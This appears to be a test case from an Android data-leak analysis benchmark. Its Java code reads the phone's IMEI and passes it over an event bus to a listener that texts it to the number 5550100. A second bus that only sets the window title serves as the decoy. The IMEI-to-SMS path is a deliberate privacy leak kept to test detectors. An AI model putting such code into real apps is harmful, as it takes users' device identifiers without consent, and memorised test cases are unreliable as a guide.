// about       The listener that sends hears the bus on which the IMEI is told.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  private final Bus ids = new Bus();
  private final Bus greetings = new Bus();

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Teller title = new Teller() {
      @Override
      public void tell(String text) {
        setTitle(text);
      }
    };
    // Two buses of one class.
    ids.add(new Texter());
    greetings.add(title);
  }

  @Override
  protected void onResume() {
    super.onResume();
    ids.fire(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
    greetings.fire("hello");
  }
}

interface Teller {
  void tell(String text);
}

class Texter implements Teller {
  @Override
  public void tell(String text) {
    SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
  }
}

class Bus {
  private final List<Teller> tellers = new ArrayList<Teller>();

  void add(Teller teller) {
    tellers.add(teller);
  }

  void fire(String text) {
    for (Teller teller : tellers) {
      teller.tell(text);
    }
  }
}
